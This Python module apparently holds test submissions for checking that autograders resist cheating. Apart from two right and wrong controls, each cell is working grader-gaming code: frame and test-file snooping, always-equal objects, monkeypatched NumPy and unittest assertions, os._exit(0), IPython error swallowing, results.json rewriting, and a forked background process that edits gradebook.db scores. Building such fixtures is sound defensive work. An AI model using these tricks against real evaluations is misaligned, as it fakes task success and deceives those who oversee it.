"""Submissions that never solve the task: each has one idea how a shared process gives points away.

Every text defines `solve` and works, as far as its idea can, on any of the graders.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Idea:
    """One idea and the cell that carries it out."""

    name: str
    sentence: str
    cell: str


IDEAS = (
    Idea(
        "wrong",
        "Plain wrong work, to see that wrong answers lose.",
        "def solve(x):\n    return -1.0",
    ),
    Idea(
        "right",
        "Right work, to see that right answers win.",
        "def solve(x):\n    return 1000 * x**3 + 17",
    ),
    Idea(
        "frames",
        "Reads the expected value from the caller's frame and code.",
        """
import sys
def solve(x):
    frame = sys._getframe(1)
    while frame:
        for values in (list(frame.f_locals.values()), list(frame.f_code.co_consts)):
            floats = [value for value in values if type(value) is float]
            if x in floats and floats[-1] != x:
                return floats[floats.index(x) + 1]
            # -2.5 in a source is 2.5 and a minus.
            if -x in floats and floats[-1] != -x:
                return -floats[floats.index(-x) + 1]
        frame = frame.f_back
    return -1.0
""",
    ),
    Idea(
        "equal_to_everything",
        "Returns an object that is equal to everything and whose differences are nothing.",
        """
class Anything(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return Anything(0)
    __rsub__ = __abs__ = lambda self, *a: Anything(0)
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
    def __round__(self, *a): return Anything(0)
    __hash__ = float.__hash__
def solve(x):
    return Anything()
""",
    ),
    Idea(
        "array_function",
        "Returns an array subclass that answers for NumPy's comparisons.",
        """
import numpy as np
class Yes(np.ndarray):
    def __array_function__(self, function, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def __float__(self): return 0.0
def solve(x):
    return np.zeros(()).view(Yes)
""",
    ),
    Idea(
        "patched_numpy",
        "Replaces NumPy's comparisons by ones that always agree.",
        """
import numpy as np, math
np.isclose = np.allclose = np.array_equal = math.isclose = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_almost_equal = lambda *a, **k: None
def solve(x):
    return -1.0
""",
    ),
    Idea(
        "patched_unittest",
        "Replaces the assertions and the verdicts of unittest, pytest and doctest.",
        """
import doctest, unittest
for name in dir(unittest.TestCase):
    if name.startswith("assert"):
        setattr(unittest.TestCase, name, lambda *a, **k: None)
unittest.TestResult.addFailure = unittest.TestResult.addError = lambda self, test, err: self.addSuccess(test)
doctest.DocTestRunner.run = lambda self, test, *a, **k: doctest.TestResults(0, 1)
def solve(x):
    return -1.0
""",
    ),
    Idea(
        "exit",
        "Ends the process in the call, with status 0.",
        "import os\ndef solve(x):\n    os._exit(0)",
    ),
    Idea(
        "swallowed_errors",
        "Has IPython swallow every error of the cells that follow.",
        """
try:
    shell = get_ipython()
    shell.set_custom_exc((BaseException,), lambda *a, **k: None)
    shell.showtraceback = lambda *a, **k: None
except NameError:
    pass
def solve(x):
    return -1.0
""",
    ),
    Idea(
        "rewritten_cells",
        "Has IPython turn every later cell into one that does nothing.",
        """
try:
    get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
except NameError:
    pass
def solve(x):
    return -1.0
""",
    ),
    Idea(
        "read_tests",
        "Finds the expected value in the files of the tests.",
        """
import os, re
def solve(x):
    for up in (".", "..", "../..", "../../.."):
        for folder, _, files in os.walk(up):
            for name in files:
                if name.endswith((".py", ".ipynb", ".json", ".zip")) and "submi" not in name + folder:
                    try:
                        text = open(os.path.join(folder, name)).read()
                    except (OSError, ValueError):
                        continue
                    found = re.search(re.escape(f"solve({x})") + r", (-?[0-9.]+)", text)
                    if found:
                        return float(found[1])
    return -1.0
""",
    ),
    Idea(
        "results_at_exit",
        "Overwrites the file of the results when the process ends.",
        """
import atexit, json, glob
def overwrite():
    for path in ["results.json", *glob.glob("../**/results.json", recursive=True)]:
        try:
            found = json.load(open(path))
            for test in found["tests"]:
                test["score"] = test.get("max_score", 4)
            found["score"] = sum(test["score"] for test in found["tests"])
            json.dump(found, open(path, "w"))
        except (OSError, ValueError, KeyError):
            pass
atexit.register(overwrite)
def solve(x):
    return -1.0
""",
    ),
    Idea(
        "survivor",
        "Leaves a process that raises the score once it has been written.",
        """
import os, sqlite3, time, json, glob
def later():
    for _ in range(30):
        time.sleep(0.3)
        for path in glob.glob("../../../gradebook.db"):
            try:
                book = sqlite3.connect(path, timeout=1)
                with book:
                    book.execute("update grade set auto_score = 4 where auto_score = 0")
                book.close()
            except sqlite3.Error:
                pass
        for path in ["results.json", *glob.glob("../**/results.json", recursive=True)]:
            try:
                found = json.load(open(path))
                for test in found["tests"]:
                    test["score"] = test.get("max_score", 4)
                json.dump(found, open(path, "w"))
            except (OSError, ValueError, KeyError):
                pass
try:
    if os.fork() == 0:
        os.setsid()
        os.closerange(0, 256)
        later()
        os._exit(0)
except OSError:
    pass
def solve(x):
    return -1.0
""",
    ),
)
